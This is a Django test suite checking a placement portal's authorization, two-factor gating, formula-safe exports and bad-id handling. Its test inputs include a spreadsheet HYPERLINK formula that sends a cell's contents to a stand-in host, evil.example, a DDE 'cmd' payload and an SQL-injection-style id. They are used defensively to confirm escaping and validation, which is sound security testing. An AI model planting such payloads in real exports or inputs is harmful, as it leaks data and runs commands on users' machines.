"""The authorization holes found by trying the portal as each role, one test (or more) per finding:
rights and passwords are the superuser's; every admin action declares its permission and a refused
one changes nothing; read-only roles act nowhere; staff without a second factor reach only its
set-up; exports carry no live formula; bad ids are a clear error, never a server error; staff
edit vacancies."""

import csv
import io
import json
import re

import openpyxl
import pytest
from allauth.mfa.totp.internal.auth import TOTP
from django.contrib import admin
from django.contrib.auth.models import Group
from django.test import Client, RequestFactory
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from import_export.admin import ExportMixin

from experts.models import DocumentAccess
from partnerships import services as eoi_services
from partnerships.models import (
    Comment,
    CommuneMembership,
    ContactPerson,
    ExpressionOfInterest,
    Invitation,
    MembershipRequest,
)
from placements.models import Application, Case, Vacancy
from portal import roles
from portal.exports import EXPORT_FORMATS, escape_formula
from portal.middleware import MFA_SETUP_URL_NAMES
from portal.models import OutgoingEmail, User
from tests.conftest import PASSWORD, TOTP_SECRET, make_user
from tests.partnerships.factories import invitation_path
from tests.placements.factories import ExpertProfileFactory, advance

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&C3,"Open")'


@pytest.fixture
def root(db):
    """The superuser, with two-factor authentication."""
    return make_user("root@example.org", staff=True, superuser=True, mfa=True, name="Root")


@pytest.fixture
def staff(sam, gina, cora, fiona, root):
    """Every staff role, each with a second factor (gina and cora have none by default)."""
    for user in (gina, cora, fiona):
        TOTP.activate(user, TOTP_SECRET)
    return {"skew": sam, "giz": gina, "coordinator": cora, "finance": fiona, "superuser": root}


def logged_in(user) -> Client:
    browser = Client()
    browser.force_login(user)
    return browser


def rights(user: User):
    user = User.objects.get(pk=user.pk)
    return (
        user.is_staff,
        user.is_superuser,
        user.is_active,
        user.password,
        sorted(user.groups.values_list("name", flat=True)),
        sorted(user.user_permissions.values_list("codename", flat=True)),
    )


# --- 1. Rights and passwords are the superuser's ------------------------------------------------


def superuser_form(user: User, **changes):
    data = {
        "email": user.email,
        "full_name": user.full_name,
        "language": user.language,
        "time_zone": user.time_zone,
        "is_active": "on",
        "groups": [str(g.pk) for g in user.groups.all()],
    }
    data.update(changes)
    return data


@pytest.mark.parametrize("role", ["skew", "giz"])
def test_programme_staff_cannot_tick_superuser_staff_groups_or_permissions(staff, alice, role):
    actor = staff[role]
    before = rights(alice)
    url = reverse("admin:portal_user_change", args=[alice.pk])
    page = logged_in(actor).get(url).content.decode()
    assert 'name="is_superuser"' not in page and 'name="groups"' not in page
    response = logged_in(actor).post(
        url,
        superuser_form(
            alice,
            full_name="Alice A.",
            is_staff="on",
            is_superuser="on",
            groups=[str(Group.objects.get(name=roles.SKEW).pk)],
            user_permissions=[],
        ),
    )
    assert response.status_code == 302
    assert rights(alice) == before  # the fields were not even read
    assert User.objects.get(pk=alice.pk).full_name == "Alice A."  # their work still works


@pytest.mark.parametrize("role", ["skew", "giz"])
def test_programme_staff_cannot_change_staff_accounts_their_own_included(staff, role):
    actor = staff[role]
    for account in (actor, staff["superuser"]):
        before = rights(account)
        response = logged_in(actor).post(
            reverse("admin:portal_user_change", args=[account.pk]),
            superuser_form(account, is_superuser="on", is_staff="on"),
        )
        assert response.status_code == 403
        assert rights(account) == before


@pytest.mark.parametrize("role", ["skew", "giz", "coordinator", "finance"])
def test_only_the_superuser_sets_passwords(staff, alice, role):
    for account in (alice, staff["superuser"]):
        before = rights(account)
        url = reverse("admin:auth_user_password_change", args=[account.pk])
        browser = logged_in(staff[role])
        assert browser.get(url).status_code == 403
        data = {"password1": "a-new-password-2026", "password2": "a-new-password-2026"}
        assert browser.post(url, data).status_code == 403
        assert rights(account) == before


def test_the_superuser_grants_rights_and_sets_passwords(staff, alice):
    root = staff["superuser"]
    browser = logged_in(root)
    group = Group.objects.get(name=roles.COORDINATOR)
    response = browser.post(
        reverse("admin:portal_user_change", args=[alice.pk]),
        superuser_form(alice, is_staff="on", groups=[str(group.pk)]),
    )
    assert response.status_code == 302
    assert User.objects.get(pk=alice.pk).is_staff
    response = browser.post(
        reverse("admin:auth_user_password_change", args=[alice.pk]),
        {"password1": "a-new-password-2026", "password2": "a-new-password-2026"},
    )
    assert response.status_code == 302
    assert User.objects.get(pk=alice.pk).check_password("a-new-password-2026")


def test_every_change_to_an_account_is_in_its_history(staff, alice):
    root, sam = staff["superuser"], staff["skew"]
    logged_in(sam).post(
        reverse("admin:portal_user_change", args=[alice.pk]),
        {"full_name": "Alice Albrecht-Neu", "language": "de", "time_zone": "Europe/Berlin"},
    )
    logged_in(root).post(
        reverse("admin:portal_user_change", args=[alice.pk]),
        superuser_form(
            User.objects.get(pk=alice.pk),
            is_staff="on",
            groups=[str(Group.objects.get(name=roles.FINANCE).pk)],
        ),
    )
    history = list(User.history.filter(id=alice.pk).order_by("history_date"))
    by_whom = [(h.history_user, h.full_name, h.is_staff) for h in history]
    assert (sam, "Alice Albrecht-Neu", False) in by_whom
    assert (root, "Alice Albrecht-Neu", True) in by_whom
    page = logged_in(root).get(reverse("admin:portal_user_history", args=[alice.pk]))
    assert page.status_code == 200


# --- 2. Every admin action declares its permission; a refused one changes nothing ---------------


@pytest.fixture
def world(staff, alice, pierre, german, partner, partnership, case, erin):
    """At least one row of every model an admin action can act on."""
    sam = staff["skew"]
    eoi_services.request_membership(
        user=make_user("carla@example.org", name="Carla"), commune=german, function="Clerk"
    )
    eoi_services.invite(commune=german, email="new@example.org", name="New", language="de", by=sam)
    eva = ExpertProfileFactory(full_name="Eva Schmidt", email="eva@example.org", user=None)
    ContactPerson.objects.create(commune=german, name="Hans Huber", email="hans@example.org")
    DocumentAccess.objects.create(expert=eva, user=sam)
    advance(case, Case.State.ACTIVE, by=sam)  # a vacancy, applications, a mission, a top-up
    return staff


def all_actions():
    """(model admin, action name) for every action of every registered model, Django's
    delete_selected included."""
    for model_admin in admin.site._registry.values():
        for _func, name, _description in model_admin._get_base_actions():
            yield model_admin, name


def test_every_admin_action_declares_the_permission_it_needs():
    undeclared = [
        f"{model_admin.model.__name__}.{name}"
        for model_admin, name in all_actions()
        if not getattr(model_admin.get_action(name)[0], "allowed_permissions", None)
    ]
    assert undeclared == []


# Written by the request itself (the acting user's own session activity), not by an action.
WRITTEN_BY_EVERY_REQUEST = {"last_seen_at"}


def state_of(model):
    rows = [
        {k: v for k, v in row.items() if k not in WRITTEN_BY_EVERY_REQUEST}
        for row in model.objects.order_by("pk").values()
    ]
    return rows, OutgoingEmail.objects.count()


def test_every_admin_action_run_by_every_role_changes_nothing_when_refused(world):
    refused_somewhere = 0
    for role, user in world.items():
        request = RequestFactory().get("/admin/")
        request.user = user
        browser = logged_in(user)
        for model_admin, name in all_actions():
            model = model_admin.model
            allowed = name in model_admin.get_actions(request)
            if allowed:
                continue
            pks = list(model.objects.order_by("pk").values_list("pk", flat=True)[:3])
            assert pks, f"the test world has no {model.__name__} to act on"
            before = state_of(model)
            url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
            response = browser.post(
                url, {"action": name, "_selected_action": pks, "post": "yes", "index": 0}
            )
            assert response.status_code in (200, 302, 403), (role, model.__name__, name)
            assert state_of(model) == before, (role, model.__name__, name)
            refused_somewhere += 1
    assert refused_somewhere > 0


def test_read_only_roles_have_no_admin_action_at_all(world):
    for role in ("coordinator", "finance"):
        request = RequestFactory().get("/admin/")
        request.user = world[role]
        offered = {
            f"{model_admin.model.__name__}.{name}"
            for model_admin in admin.site._registry.values()
            for name in model_admin.get_actions(request)
        }
        assert offered == set(), role


def test_coordinators_and_finance_cannot_deactivate_anyone(world, alice):
    for role in ("coordinator", "finance"):
        logged_in(world[role]).post(
            reverse("admin:portal_user_changelist"),
            {"action": "deactivate", "_selected_action": [alice.pk, world["superuser"].pk]},
        )
    assert User.objects.get(pk=alice.pk).is_active
    assert User.objects.get(pk=world["superuser"].pk).is_active


def test_programme_staff_deactivate_applicants_but_not_staff_accounts(world, alice):
    sam, root = world["skew"], world["superuser"]
    logged_in(sam).post(
        reverse("admin:portal_user_changelist"),
        {"action": "deactivate", "_selected_action": [alice.pk, root.pk, sam.pk]},
    )
    assert not User.objects.get(pk=alice.pk).is_active
    assert User.objects.get(pk=root.pk).is_active
    assert User.objects.get(pk=sam.pk).is_active


def test_programme_staff_resend_an_invitation_with_a_new_link(world, mailoutbox):
    invitation = Invitation.objects.get(email="new@example.org")
    old_digest, old_path = invitation.token_digest, invitation_path(invitation)
    sent = OutgoingEmail.objects.count()
    logged_in(world["giz"]).post(
        reverse("admin:partnerships_invitation_changelist"),
        {"action": "resend", "_selected_action": [invitation.pk]},
    )
    invitation.refresh_from_db()
    assert invitation.token_digest != old_digest
    assert OutgoingEmail.objects.count() == sent + 1
    assert invitation_path(invitation) != old_path
    assert eoi_services.invitation_to_accept(token=old_path.rstrip("/").rsplit("/", 1)[1]) is None


# --- 3. Read-only roles cannot act through the portal's pages -----------------------------------


@pytest.fixture
def membership_request(german):
    return eoi_services.request_membership(
        user=make_user("carla@example.org", name="Carla"), commune=german, function="Clerk"
    )


@pytest.mark.parametrize("role", ["coordinator", "finance"])
def test_read_only_roles_cannot_post_a_programme_message(staff, case, role):
    eoi = case.eoi
    browser = logged_in(staff[role])
    page = browser.get(eoi.get_absolute_url()).content.decode()
    assert "Send message" not in page
    emails = OutgoingEmail.objects.count()
    response = browser.post(
        reverse("partnerships:eoi-comment", args=[eoi.pk]), {"body": "From finance"}
    )
    assert response.status_code == 403
    assert not Comment.objects.filter(body="From finance").exists()
    assert OutgoingEmail.objects.count() == emails
    # Nor through the case page in the admin.
    browser.post(reverse("admin:placements_case_message", args=[case.pk]), {"body": "Admin"})
    assert not Comment.objects.filter(body="Admin").exists()


@pytest.mark.parametrize("role", ["coordinator", "finance"])
def test_read_only_roles_cannot_decide_membership_requests(staff, membership_request, role):
    browser = logged_in(staff[role])
    page = browser.get(membership_request.commune.get_absolute_url()).content.decode()
    assert "Carla" in page  # they read the request
    assert (
        reverse("partnerships:membership-request-decide", args=[membership_request.pk, "confirm"])
        not in page
    )
    response = browser.post(
        reverse("partnerships:membership-request-decide", args=[membership_request.pk, "confirm"])
    )
    assert response.status_code == 404
    assert MembershipRequest.objects.get(pk=membership_request.pk).status == "pending"
    assert not CommuneMembership.objects.filter(user=membership_request.user).exists()


@pytest.mark.parametrize("role", ["coordinator", "finance"])
def test_read_only_roles_cannot_invite_into_a_commune(staff, german, role):
    browser = logged_in(staff[role])
    response = browser.post(
        reverse("partnerships:commune-invite", args=[german.pk]),
        {"commune": german.pk, "email": "mallory@example.org", "name": "M", "language": "en"},
    )
    assert response.status_code == 404
    assert not Invitation.objects.filter(email="mallory@example.org").exists()


def test_programme_staff_still_write_decide_and_invite(staff, case, membership_request, german):
    browser = logged_in(staff["skew"])
    browser.post(reverse("partnerships:eoi-comment", args=[case.eoi.pk]), {"body": "Welcome"})
    assert Comment.objects.get(body="Welcome").from_programme
    browser.post(
        reverse("partnerships:membership-request-decide", args=[membership_request.pk, "confirm"])
    )
    assert MembershipRequest.objects.get(pk=membership_request.pk).status == "confirmed"
    browser.post(
        reverse("partnerships:commune-invite", args=[german.pk]),
        {"commune": german.pk, "email": "new@example.org", "name": "N", "language": "en"},
    )
    assert Invitation.objects.filter(email="new@example.org").exists()


# --- 4. Staff without a second factor reach nothing but its set-up -----------------------------

# Sample values for the URL patterns written as regular expressions.
REGEX_SAMPLES = {
    "account_confirm_email": "/accounts/confirm-email/abc:def/",
    "account_reset_password_from_key": "/accounts/password/reset/key/1-set-password/",
    "app_list": "/admin/portal/",
    "view_on_site": "/admin/r/1/1/",
    None: "/admin/no-such-page/",  # the admin's catch-all
}
CONVERTER = re.compile(r"<(?:(\w+):)?(\w+)>")


def every_url(patterns=None, prefix=""):
    """(path, url name) of every URL pattern of the portal, admin and allauth included."""
    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
        text = str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from every_url(pattern.url_patterns, prefix + text)
        elif isinstance(pattern, URLPattern):
            if text.startswith("^") or "(?P" in text:
                name = pattern.name
                if (name or "").endswith("_simple_history"):  # one version of an object
                    yield "/" + prefix + "1/history/1/", name
                    continue
                assert name in REGEX_SAMPLES, f"add a sample path for {prefix + text}"
                yield REGEX_SAMPLES[name], name
                continue
            path = CONVERTER.sub(
                lambda m: "1" if m.group(1) in ("int", "path", None) else "x", prefix + text
            )
            yield "/" + path.lstrip("^"), pattern.name


def test_staff_without_a_second_factor_reach_only_its_set_up(gina, case, membership_request):
    browser = Client()
    browser.login(email=gina.email, password=PASSWORD)
    setup = reverse("mfa_activate_totp")
    checked = 0
    for path, name in every_url():
        if name in MFA_SETUP_URL_NAMES:
            continue
        for method in ("get", "post"):
            response = getattr(browser, method)(path)
            assert response.status_code == 302, (method, path, response.status_code)
            assert response["Location"] == setup, (method, path)
        checked += 1
    assert checked > 100  # the walk really covers the admin and the portal
    # The set-up itself opens (after confirming the password, as allauth asks).
    response = browser.get(setup, follow=True)
    assert response.status_code == 200
    assert response.redirect_chain[-1][0].startswith(reverse("account_reauthenticate"))
    # The data behind those pages is untouched: nothing was decided.
    assert MembershipRequest.objects.get(pk=membership_request.pk).status == "pending"


def test_a_superuser_without_a_second_factor_is_sent_to_set_it_up_too(alice):
    root = make_user("root2@example.org", staff=True, superuser=True)
    response = logged_in(root).get(reverse("partnerships:commune-list"))
    assert response["Location"] == reverse("mfa_activate_totp")


# --- 5. Exports carry no live formula ----------------------------------------------------------


def test_every_admin_export_uses_the_formula_safe_formats():
    exporting = [a for a in admin.site._registry.values() if isinstance(a, ExportMixin)]
    assert exporting
    for model_admin in exporting:
        assert model_admin.get_export_formats() == EXPORT_FORMATS, type(model_admin).__name__


@pytest.mark.parametrize(
    "text", [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "＝1+1"]
)
def test_text_that_starts_a_formula_is_escaped(text):
    assert escape_formula(text) == "'" + text
    assert escape_formula("Waste = value") == "Waste = value"
    assert escape_formula(42) == 42


def export(browser, model_admin_url, file_format):
    return browser.post(model_admin_url, {"format": file_format, "export_items": []})


@pytest.mark.parametrize("file_format", ["0", "1"], ids=["csv", "xlsx"])
def test_a_formula_in_a_title_arrives_as_text_in_the_case_export(staff, case, file_format):
    ExpressionOfInterest.objects.filter(pk=case.eoi.pk).update(title=FORMULA)
    browser = logged_in(staff["coordinator"])
    url = reverse("admin:placements_case_export")
    response = browser.post(
        url,
        {
            "format": file_format,
            "resource": "0",
            "caseresource_id": "on",
            "caseresource_title": "on",
        },
    )
    assert response.status_code == 200, response.content[:500]
    if file_format == "0":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        titles = [row[rows[0].index("title")] for row in rows[1:]]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        values = list(sheet.values)
        titles = [row[list(values[0]).index("title")] for row in values[1:]]
    assert titles == ["'" + FORMULA]


# --- 6. Bad ids are a clear error, never a server error -----------------------------------------


BAD_IDS = ["abc", "1.5", "", "99999999", "-1", "1 OR 1=1"]


@pytest.mark.parametrize("bad", BAD_IDS)
def test_starting_an_eoi_for_a_bad_commune_id_is_a_clear_400(alice, german, bad):
    browser = logged_in(alice)
    response = browser.post(reverse("partnerships:eoi-start"), {"commune": bad})
    assert response.status_code == 400
    assert "Please choose one of your communes." in response.content.decode()
    assert not ExpressionOfInterest.objects.exists()


@pytest.mark.parametrize("bad", BAD_IDS)
def test_bad_ids_in_the_matching_actions_are_refused_with_a_message(case, sam, bad):
    case = advance(case, Case.State.SCREENING, by=sam)
    browser = logged_in(sam)
    for action in ("shortlist", "notes", "select"):
        response = browser.post(
            reverse("admin:placements_case_matching_action", args=[case.pk]),
            {"expert": bad, "action": action},
            follow=True,
        )
        assert response.status_code == 200
        assert "This expert could not be found." in response.content.decode()
    assert not Application.objects.exists()


@pytest.mark.parametrize("bad", BAD_IDS)
def test_bad_ids_in_the_case_form_are_form_errors(case, sam, bad):
    url = reverse("admin:placements_case_change", args=[case.pk])
    browser = logged_in(sam)
    for field in ("selected_expert", "case_officer", "deployment_type", "host_communes"):
        response = browser.post(url, {field: bad, "duration_months": "24"})
        assert response.status_code == 200, (field, bad)
        assert "errornote" in response.content.decode() or "errorlist" in response.content.decode()
    assert Case.objects.get(pk=case.pk).selected_expert is None


@pytest.mark.parametrize("bad", BAD_IDS)
def test_bad_ids_in_other_forms_and_filters_never_answer_500(
    alice, german, partnership, case, sam, bad
):
    applicant, staff_member = logged_in(alice), logged_in(sam)
    checks = [
        (applicant, "post", reverse("partnerships:commune-list"), {"commune": bad}),
        (
            applicant,
            "post",
            reverse("partnerships:eoi-confirm", args=[case.eoi.pk]),
            {"commune": bad},
        ),
        (
            applicant,
            "get",
            reverse("partnerships:eoi-compare", args=[case.eoi.pk]),
            {"a": bad, "b": bad},
        ),
        (
            applicant,
            "get",
            reverse("placements:vacancy-list"),
            {"theme": bad, "model": bad, "country": bad},
        ),
        (
            staff_member,
            "get",
            reverse("admin:placements_case_matching", args=[case.pk]),
            {"skill": bad, "language": bad},
        ),
        (
            staff_member,
            "post",
            reverse("admin:placements_case_transition", args=[case.pk]),
            {"transition": bad, "expected_state": bad},
        ),
        (
            staff_member,
            "get",
            reverse("admin:placements_case_changelist"),
            {"case_officer__id__exact": bad, "deployment_type__id__exact": bad},
        ),
    ]
    for browser, method, url, data in checks:
        response = getattr(browser, method)(url, data)
        assert response.status_code in (200, 302, 400, 404), (url, response.status_code)
    assert not MembershipRequest.objects.filter(user=alice).exists()


# --- 9. Programme staff edit vacancies ----------------------------------------------------------


@pytest.mark.parametrize("role", ["skew", "giz"])
def test_programme_staff_edit_a_vacancy_before_publishing_it(staff, case, role):
    actor = staff[role]
    case = advance(case, Case.State.VACANCY_DRAFTED, by=staff["skew"])
    vacancy = Vacancy.objects.get(case=case)
    url = reverse("admin:placements_vacancy_change", args=[vacancy.pk])
    browser = logged_in(actor)
    assert browser.get(url).status_code == 200
    data = {"title": "Waste management adviser (m/f/d)", "closing_date": "2027-03-31"}
    form_fields = (
        admin.site._registry[Vacancy].get_form(RequestFactory().get("/"), vacancy).base_fields
    )
    for name in form_fields:
        if name not in data:
            value = getattr(vacancy, name)
            if isinstance(value, list | dict):
                data[name] = json.dumps(value)
            elif isinstance(value, bool):
                if value:
                    data[name] = "on"
            elif value is not None:
                data[name] = str(value)
    response = browser.post(url, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    assert Vacancy.objects.get(pk=vacancy.pk).title == "Waste management adviser (m/f/d)"


@pytest.mark.parametrize("role", ["coordinator", "finance"])
def test_read_only_roles_read_but_do_not_edit_vacancies(staff, case, role):
    case = advance(case, Case.State.VACANCY_DRAFTED, by=staff["skew"])
    vacancy = Vacancy.objects.get(case=case)
    url = reverse("admin:placements_vacancy_change", args=[vacancy.pk])
    browser = logged_in(staff[role])
    assert browser.get(url).status_code == 200
    browser.post(url, {"title": "Changed"})
    assert Vacancy.objects.get(pk=vacancy.pk).title == vacancy.title
